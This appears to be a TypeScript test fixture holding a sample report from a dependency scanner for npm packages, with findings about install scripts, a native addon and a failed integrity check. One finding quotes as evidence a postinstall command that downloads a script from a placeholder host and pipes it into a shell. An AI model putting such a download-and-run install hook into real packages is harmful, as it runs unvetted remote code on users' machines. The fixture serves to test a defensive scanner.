import type { ScanResult } from '../../src/scan.js';

/** One scan with something in every corner of the report: a deep critical, a low native build, an unreadable package. */
export const sampleResult: ScanResult = {
  target: 'docs-mcp-server@1.0.0',
  roots: ['docs-mcp-server'],
  skippedForPlatform: [{ name: '@esbuild/win32-x64', version: '0.25.0' }],
  incomplete: [
    {
      name: 'lost-package',
      version: '2.0.0',
      code: 'EINTEGRITY',
      reason: 'the tarball does not match its recorded integrity sha512-abc',
    },
  ],
  packages: [
    {
      name: 'docs-mcp-server',
      version: '1.0.0',
      integrity: 'sha512-root',
      paths: [['docs-mcp-server']],
      capabilities: [],
      findings: [],
    },
    {
      name: 'data-collector',
      version: '1.0.0',
      integrity: 'sha512-deep',
      paths: [['docs-mcp-server', 'docs-helper', 'markdown-parser', 'data-collector']],
      capabilities: ['install-script'],
      findings: [
        {
          checkId: 'install-scripts',
          severity: 'critical',
          title: 'postinstall script',
          message: 'The postinstall script pipes a download into an interpreter.',
          location: { file: 'package.json', line: 6, column: 5 },
          evidence: 'curl -fsSL https://collect.example/i.sh | sh',
          confidence: 'high',
        },
      ],
    },
    {
      name: 'native-addon',
      version: '3.1.0',
      integrity: 'sha512-native',
      paths: [
        ['docs-mcp-server', 'native-addon'],
        ['docs-mcp-server', 'docs-helper', 'native-addon'],
      ],
      capabilities: ['install-script', 'native'],
      findings: [
        {
          checkId: 'install-scripts',
          severity: 'low',
          title: 'install script',
          message: 'The install script builds or fetches a native addon.',
          location: { file: 'package.json', line: 8, column: 5 },
          evidence: 'node-gyp rebuild',
          confidence: 'high',
        },
      ],
    },
    {
      name: 'lost-package',
      version: '2.0.0',
      integrity: 'sha512-abc',
      paths: [['docs-mcp-server', 'lost-package']],
      capabilities: [],
      findings: [],
      incomplete: {
        name: 'lost-package',
        version: '2.0.0',
        code: 'EINTEGRITY',
        reason: 'the tarball does not match its recorded integrity sha512-abc',
      },
    },
  ],
};
